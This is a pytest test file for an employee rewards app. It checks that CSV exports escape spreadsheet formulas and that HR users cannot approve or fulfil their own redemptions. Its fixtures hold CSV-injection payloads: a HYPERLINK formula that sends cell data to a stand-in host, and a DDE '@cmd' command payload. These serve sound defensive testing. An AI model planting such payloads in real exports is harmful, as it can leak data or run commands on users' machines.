"""CSV exports are inert in Excel/WPS; nobody approves or fulfils their own redemption."""

from __future__ import annotations

import csv
import io

import httpx
import pytest

from points.csv_export import neutralise
from points.org.models import Role
from points.rewards.policy import Actor
from points.rewards.workflow import fulfil_many
from tests.support.factories import login, make_department, make_employee, make_token
from tests.support.org import Org
from tests.support.rewards import actor_for, give, make_reward
from tests.support.services import Store

HOSTILE_NAME = '=HYPERLINK("http://x/?"&A1,"x")'
HOSTILE_DEPARTMENT = "+SUM(1,2)"
HOSTILE_REWARD = "@cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("raw", "safe"),
    [
        ("=1+2", "'=1+2"),
        ("+SUM(1,2)", "'+SUM(1,2)"),
        ("-2+3", "'-2+3"),
        ("@cmd", "'@cmd"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-5", "-5"),  # a negative number is a number
        ("+12.5%", "+12.5%"),
        ("张三", "张三"),
        (-30, "-30"),
        (None, ""),
    ],
)
def test_neutralise(raw: object, safe: str) -> None:
    assert neutralise(raw) == safe


def cells(response: httpx.Response) -> list[str]:
    assert response.status_code == 200, response.text[:300]
    reader = csv.reader(io.StringIO(response.text.lstrip("\ufeff")))
    return [cell for row in reader for cell in row]


async def test_every_export_neutralises_formula_cells(
    pg: Store, org: Org, client: httpx.AsyncClient
) -> None:
    async with pg.db.session() as session:
        hostile_dept = await make_department(session, HOSTILE_DEPARTMENT)
        person = await make_employee(session, hostile_dept, userid="mallory", name=HOSTILE_NAME)
        assert person.id is not None
        await give(session, pg.settings, person.id, 200)
        reward = await make_reward(session, name=HOSTILE_REWARD, price=10)
        employee_token = await make_token(session, Role.employee, "mallory")
        await session.commit()
    redeemed = await client.post(
        "/api/v1/redemptions",
        json={"reward_id": reward.id},
        headers={"Authorization": f"Bearer {employee_token}"},
    )
    assert redeemed.status_code == 201
    await login(client, org.hr.userid)
    exports = {
        "board": await client.get("/boards/export.csv"),
        "department": await client.get(f"/dashboard/export.csv?department={hostile_dept.id}"),
        "spend": await client.get("/fulfilment/spend.csv?by=department"),
        "spend_rewards": await client.get("/fulfilment/spend.csv?by=reward"),
    }
    found = {name: cells(response) for name, response in exports.items()}
    assert "'" + HOSTILE_NAME in found["board"]
    assert "'" + HOSTILE_DEPARTMENT in found["department"] + found["spend"]
    assert "'" + HOSTILE_REWARD in found["spend_rewards"]
    for name, values in found.items():
        raw = [v for v in values if v.startswith(("=", "+", "@", "\t", "\r"))]
        assert raw == [], (name, raw)


async def test_hr_cannot_approve_or_fulfil_their_own_redemption(
    pg: Store, org: Org, client: httpx.AsyncClient
) -> None:
    async with pg.db.session() as session:
        lunch = await make_reward(session, name="午餐券", price=20, approver="hr")
        assert org.hr.id is not None
        await give(session, pg.settings, org.hr.id, 100)
        hr = await make_token(session, Role.hr, org.hr.userid)
        admin = await make_token(session, Role.admin, org.admin.userid)
        await session.commit()
    headers = {"Authorization": f"Bearer {hr}"}
    asked = await client.post("/api/v1/redemptions", json={"reward_id": lunch.id}, headers=headers)
    assert asked.status_code == 201
    redemption_id = asked.json()["id"]
    own = await client.post(f"/api/v1/redemptions/{redemption_id}/approve", headers=headers)
    assert own.status_code == 403
    other = await client.post(
        f"/api/v1/redemptions/{redemption_id}/approve",
        headers={"Authorization": f"Bearer {admin}"},
    )
    assert other.status_code == 200 and other.json()["status"] == "awaiting_fulfilment"
    own_fulfil = await client.post(f"/api/v1/redemptions/{redemption_id}/fulfil", headers=headers)
    assert own_fulfil.status_code == 403
    assert own_fulfil.json()["error"]["code"] == "own_redemption"
    # Bulk fulfilment from the queue skips one's own.
    async with pg.db.session() as session:
        actor: Actor = await actor_for(session, org.hr)
        assert await fulfil_many(session, pg.settings, [redemption_id], actor) == 0
        await session.commit()
    done = await client.post(
        f"/api/v1/redemptions/{redemption_id}/fulfil",
        headers={"Authorization": f"Bearer {admin}"},
    )
    assert done.status_code == 200 and done.json()["status"] == "fulfilled"
